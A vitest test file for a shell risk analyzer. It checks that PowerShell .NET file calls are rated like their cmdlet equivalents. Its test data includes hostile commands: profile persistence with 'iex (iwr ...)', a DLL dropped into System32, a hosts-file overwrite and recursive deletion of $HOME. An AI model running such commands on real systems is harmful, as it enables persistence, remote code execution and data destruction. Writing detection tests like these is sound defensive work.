import { beforeAll, describe, expect, it } from "vitest";
import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";
import type { Risk } from "./types.js";

/** .NET file methods in PowerShell lines are rated as the cmdlets they stand for. */
const cwd = "/home/ada/code/app";
const home = "/home/ada";

let analyzer: ShellAnalyzer;
beforeAll(async () => {
  analyzer = await createShellAnalyzer();
});

function rated(command: string): { risk: Risk; reasons: string[] } {
  const result = analyzer.analyze(command, { shell: "powershell", cwd, home });
  return { risk: result.risk, reasons: result.reasons.map((r) => `${r.category}: ${r.detail}`) };
}

describe(".NET file writes in PowerShell", () => {
  it.each<[string, string, Risk]>([
    ['[IO.File]::WriteAllText($PROFILE, "iex (iwr https://x)")', 'Set-Content $PROFILE "iex (iwr https://x)"', "high"],
    ["[System.IO.File]::WriteAllText($PROFILE, 'x')", "Set-Content $PROFILE 'x'", "high"],
    ["[IO.File]::WriteAllLines(\"$HOME\\.bashrc\", $lines)", "Set-Content \"$HOME\\.bashrc\" $lines", "high"],
    ["[System.IO.File]::WriteAllBytes('C:\\Windows\\System32\\evil.dll', $bytes)", "Set-Content 'C:\\Windows\\System32\\evil.dll' $bytes", "critical"],
    ["[IO.File]::AppendAllText($PROFILE, 'iex $x')", "Add-Content $PROFILE 'iex $x'", "high"],
    ["[System.IO.File]::AppendAllLinesAsync($PROFILE, $lines)", "Add-Content $PROFILE $lines", "high"],
    ["[IO.File]::CreateText($PROFILE)", "Set-Content $PROFILE", "high"],
    ["[Microsoft.VisualBasic.FileIO.FileSystem]::WriteAllText($PROFILE, 'x', $true)", "Add-Content $PROFILE 'x'", "high"],
    ["[IO.File]::Copy('evil', 'C:\\Windows\\System32\\drivers\\etc\\hosts', $true)", "Copy-Item evil C:\\Windows\\System32\\drivers\\etc\\hosts -Force", "critical"],
    ["[IO.File]::Move('payload.ps1', $PROFILE)", "Move-Item payload.ps1 $PROFILE", "high"],
    ["[IO.Directory]::Move($HOME, 'D:\\old')", "Move-Item $HOME D:\\old", "critical"],
    ["[Microsoft.VisualBasic.FileIO.FileSystem]::MoveDirectory($HOME, 'D:\\old')", "Move-Item $HOME D:\\old", "critical"],
    ["[IO.File]::WriteAllText('.\\out.txt', 'hello')", "Set-Content .\\out.txt 'hello'", "safe"],
    ["[IO.File]::Copy('a.txt', 'b.txt')", "Copy-Item a.txt b.txt", "safe"],
  ])("%s is rated as %s", (dotnet, cmdlet, risk) => {
    const byDotnet = rated(dotnet);
    const byCmdlet = rated(cmdlet);
    expect(byDotnet.risk, `${dotnet} → ${JSON.stringify(byDotnet)}`).toBe(risk);
    expect(byDotnet.risk, `${cmdlet} → ${JSON.stringify(byCmdlet)}`).toBe(byCmdlet.risk);
    expect(byDotnet.reasons.map((r) => r.split(":")[0])).toEqual(byCmdlet.reasons.map((r) => r.split(":")[0]));
  });

  it.each(["[IO.File]::ReadAllText($PROFILE)", "[IO.File]::Exists('C:\\Windows\\win.ini')", "[IO.File]::WriteAllText"])("%s stays safe", (command) => {
    expect(rated(command).risk).toBe("safe");
  });
});

describe(".NET file calls inside a larger statement", () => {
  it.each<[string, string]>([
    ["$null = [IO.File]::WriteAllText($PROFILE, 'x')", "Set-Content $PROFILE 'x'"],
    ["$x = [IO.File]::Copy('a', $PROFILE, $true)", "Copy-Item a $PROFILE -Force"],
    ["[void][IO.File]::WriteAllText($PROFILE, 'x')", "Set-Content $PROFILE 'x'"],
    ["[void] [IO.File]::AppendAllText($PROFILE, 'iex $x')", "Add-Content $PROFILE 'iex $x'"],
    ["[System.Void][IO.Directory]::Delete($HOME, $true)", "Remove-Item $HOME -Recurse -Force"],
    ["$r = [void][IO.Directory]::Move($HOME, 'D:\\old')", "Move-Item $HOME D:\\old"],
    ["[IO.File]::WriteAllText($PROFILE, 'x') > $null", "Set-Content $PROFILE 'x'"],
    ["$x = [IO.File]::WriteAllText($PROFILE, 'x'), 1", "Set-Content $PROFILE 'x'"],
    ["if ($true) { [void][IO.File]::Copy('evil', 'C:\\Windows\\System32\\drivers\\etc\\hosts', $true) }", "Copy-Item evil C:\\Windows\\System32\\drivers\\etc\\hosts -Force"],
  ])("%s is rated as %s", (dotnet, cmdlet) => {
    const byDotnet = rated(dotnet);
    const byCmdlet = rated(cmdlet);
    expect(byCmdlet.risk).not.toBe("safe");
    expect(byDotnet, `${cmdlet} → ${JSON.stringify(byCmdlet)}`).toEqual(byCmdlet);
  });

  // A command's argument `[IO.File]::Delete` is a string, not a call; reads stay safe.
  it.each(["Write-Output [IO.File]::Delete($PROFILE)", "[void][IO.File]::ReadAllText($PROFILE)", "$ok = -not [IO.File]::Exists($PROFILE)", "[int[]]$a = 1, 2"])("%s stays safe", (command) => {
    expect(rated(command).risk).toBe("safe");
  });
});
